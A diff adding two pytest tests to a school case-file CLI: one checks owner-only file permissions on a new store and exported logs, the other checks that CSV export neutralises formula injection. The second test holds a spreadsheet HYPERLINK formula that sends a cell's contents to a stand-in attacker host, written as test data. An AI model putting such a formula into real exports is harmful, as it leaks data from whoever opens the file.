@@ -211,3 +211,49 @@ def test_migrate_on_a_new_machine_makes_the_stores_folder_first(tmp_path):
     assert migrated.exit_code == 0, migrated.output
     assert store.parent.is_dir()
     assert runner.invoke(scc, ["migrate", "--check"], env=_env(store)).exit_code == 0
+
+
+def test_a_new_store_and_an_exported_log_are_readable_by_their_owner_alone(loaded, tmp_path):
+    import os
+    import stat
+
+    store = tmp_path / "new" / "scc.sqlite3"
+    old_umask = os.umask(0o022)  # the usual one: files 0644 unless made otherwise
+    try:
+        assert CliRunner().invoke(scc, ["init"], env=_env(store)).exit_code == 0
+        exported = _run(loaded, "export-log", str(tmp_path / "log.jsonl.gz"))
+        plain = _run(loaded, "export-log", str(tmp_path / "log.jsonl"))
+    finally:
+        os.umask(old_umask)
+
+    assert exported.exit_code == 0 and plain.exit_code == 0, exported.output + plain.output
+    for path in (store, tmp_path / "log.jsonl.gz", tmp_path / "log.jsonl"):
+        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
+    assert stat.S_IMODE(store.parent.stat().st_mode) == 0o755  # the directory is left alone
+
+
+def test_history_csv_writes_a_name_that_is_a_formula_as_text(tmp_path):
+    from datetime import date
+
+    from adapters.bootstrap import build_case_files
+    from adapters.config import Settings
+    from tests.fakes import FixedClock
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&F3,"Helen Marsh")'
+    path = tmp_path / "scc.sqlite3"
+    case_files = build_case_files(Settings(database_url=f"sqlite:///{path}"), FixedClock())
+    try:
+        case_files.register_school(
+            by="@SUM(1+1)", effective=date(2010, 9, 1), urn=990101, name="Marsh Lane Primary",
+            phase="Primary", establishment_type="Community school", governance="maintained",
+            la_code="999", pupils=200)
+        case_files.record_visit(990101, kind="monitoring", notes="Termly visit",
+                                effective=date(2026, 11, 20), by=formula)
+    finally:
+        case_files.close()
+
+    result = _run((CliRunner(), _env(path), None), "history", "990101", "--format", "csv")
+
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert [r["by"] for r in rows] == ["'@SUM(1+1)", "'" + formula]
